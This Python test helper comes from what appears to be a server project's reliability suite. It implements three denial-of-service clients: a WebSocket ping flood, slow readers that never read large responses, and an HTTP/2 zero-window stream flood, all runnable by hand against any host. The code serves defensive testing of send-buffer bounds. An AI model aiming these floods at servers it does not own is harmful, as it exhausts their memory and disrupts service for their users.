"""Clients that attack a server's memory rather than its parser: they make
it owe them bytes and never take them. Shared by tests/test_send_bounds.py
and runnable by hand against any server (the figures of docs/reliability.md):

    python tests/attacks.py ping-flood 127.0.0.1 8000 /ws --clients 10 --seconds 10
    python tests/attacks.py slow-readers 127.0.0.1 8000 /huge --clients 100 --seconds 10
    python tests/attacks.py h2-zero-window 127.0.0.1 8000 /huge --streams 200 --seconds 10

Each one runs for a bounded time and closes what it opened; none of them
sends to any address but the one it is given.
"""

from __future__ import annotations

import argparse
import contextlib
import os
import socket
import sys
import time
from dataclasses import dataclass

from ws_raw import frame

# A receive window this small fills with the first pongs or response bytes,
# so whatever the server owes afterwards waits on its side.
SMALL_RCVBUF = 4096


@dataclass
class Outcome:
    """What the attacking connections saw."""

    opened: int = 0
    # Connections the server closed (a send failed, or EOF on a final read).
    closed_by_server: int = 0
    sent_bytes: int = 0


def _connect(host: str, port: int, timeout: float = 10.0) -> socket.socket:
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_RCVBUF)
    sock.settimeout(timeout)
    sock.connect((host, port))
    return sock


def ws_open(host: str, port: int, path: str) -> socket.socket:
    """A raw socket past its 101 (raises when the server refuses)."""
    sock = _connect(host, port)
    sock.sendall(
        (
            f"GET {path} HTTP/1.1\r\nHost: t\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = sock.recv(1)
        if not chunk:
            raise ConnectionError(f"closed during the handshake: {head!r}")
        head += chunk
    if not head.startswith(b"HTTP/1.1 101"):
        raise ConnectionError(f"not upgraded: {head[:100]!r}")
    return sock


def _send_for(socks: list[socket.socket], data: bytes, seconds: float, out: Outcome) -> None:
    """Write ``data`` on every socket, over and over, for ``seconds``; never read.
    A socket the server closed (or whose write failed) drops out."""
    for sock in socks:
        sock.setblocking(False)
    live = list(socks)
    deadline = time.monotonic() + seconds
    while live and time.monotonic() < deadline:
        progressed = False
        for sock in list(live):
            try:
                out.sent_bytes += sock.send(data)
                progressed = True
            except BlockingIOError:
                continue
            except OSError:
                out.closed_by_server += 1
                live.remove(sock)
        if not progressed:
            time.sleep(0.005)


def ping_flood(host: str, port: int, path: str, clients: int, seconds: float) -> Outcome:
    """WebSocket clients sending 125-byte pings as fast as they can, never reading."""
    out = Outcome()
    socks = [ws_open(host, port, path) for _ in range(clients)]
    out.opened = len(socks)
    try:
        _send_for(socks, frame(0x9, b"p" * 125) * 64, seconds, out)
    finally:
        for sock in socks:
            sock.close()
    return out


def hold_slow_readers(host: str, port: int, path: str, clients: int) -> list[socket.socket]:
    """Connections that each ask for ``path`` and never read the answer; the
    caller closes them."""
    socks = []
    for _ in range(clients):
        sock = _connect(host, port)
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: t\r\n\r\n".encode())
        socks.append(sock)
    return socks


def paced_reader(host: str, port: int, path: str, rate: int, seconds: float) -> bool:
    """A client that asks for ``path`` and takes the answer at ``rate`` bytes
    a second for ``seconds``: whether the server gave up on it meanwhile."""
    sock = socket.create_connection((host, port), timeout=10)
    # A small receive buffer, so what the client takes is what it reads.
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 128 * 1024)
    try:
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: t\r\n\r\n".encode())
        slice_ = 1 / 16
        started = time.monotonic()
        next_look = started
        while time.monotonic() - started < seconds:
            time.sleep(slice_)
            sock.recv(int(rate * slice_))
            if time.monotonic() >= next_look:
                if closed_by_server(sock):
                    return True
                next_look += 0.5
        return closed_by_server(sock)
    finally:
        sock.close()


def closed_by_server(sock: socket.socket) -> bool:
    """Whether the server has given up on this connection."""
    return closed_among([sock]) == 1


def closed_among(socks: list[socket.socket]) -> int:
    """How many of ``socks`` (connected to one local server) the server has
    given up on: its side of the connection is no longer ESTABLISHED (closed,
    aborted, or closing with our unread bytes still queued). Read from the
    kernel's table, not by reading: reading would let a server that still
    serves them finish and close, and count it as having dropped them."""
    if not socks:
        return 0
    server_port = socks[0].getpeername()[1]
    ours = {s.getsockname()[1] for s in socks}
    held = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        with contextlib.suppress(OSError), open(table) as f:
            next(f)
            for line in f:
                fields = line.split()
                local_port = int(fields[1].rsplit(":", 1)[1], 16)
                remote_port = int(fields[2].rsplit(":", 1)[1], 16)
                if local_port == server_port and remote_port in ours and fields[3] == "01":
                    held.add(remote_port)
    return len(ours - held)


def slow_readers(host: str, port: int, path: str, clients: int, seconds: float) -> Outcome:
    socks = hold_slow_readers(host, port, path, clients)
    out = Outcome(opened=len(socks))
    try:
        time.sleep(seconds)
        out.closed_by_server = closed_among(socks)
    finally:
        for sock in socks:
            sock.close()
    return out


def h2_zero_window(host: str, port: int, path: str, streams: int) -> socket.socket:
    """An HTTP/2 connection (prior knowledge) whose client announces a
    stream window of 0 and asks for ``path`` on ``streams`` streams: the
    server may send headers but no body byte. The caller closes it."""
    import hpack
    from hyperframe import frame as hf

    sock = _connect(host, port)
    settings = hf.SettingsFrame(0)
    settings.settings = {hf.SettingsFrame.INITIAL_WINDOW_SIZE: 0}
    data = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings.serialize()
    encoder = hpack.Encoder()
    for n in range(streams):
        headers = hf.HeadersFrame(1 + 2 * n)
        headers.data = encoder.encode(
            [(":method", "GET"), (":scheme", "http"), (":authority", "t"), (":path", path)]
        )
        headers.flags.add("END_HEADERS")
        headers.flags.add("END_STREAM")
        data += headers.serialize()
    sock.sendall(data)
    return sock


def _main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=["ping-flood", "slow-readers", "h2-zero-window"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("path")
    parser.add_argument("--clients", type=int, default=10)
    parser.add_argument("--streams", type=int, default=200)
    parser.add_argument("--seconds", type=float, default=10)
    args = parser.parse_args()
    if args.attack == "ping-flood":
        out = ping_flood(args.host, args.port, args.path, args.clients, args.seconds)
    elif args.attack == "slow-readers":
        out = slow_readers(args.host, args.port, args.path, args.clients, args.seconds)
    else:
        sock = h2_zero_window(args.host, args.port, args.path, args.streams)
        time.sleep(args.seconds)
        out = Outcome(opened=1, closed_by_server=int(closed_by_server(sock)))
        sock.close()
    print(f"{args.attack}: {out} (pid {os.getpid()})")
    return 0


if __name__ == "__main__":
    sys.exit(_main())
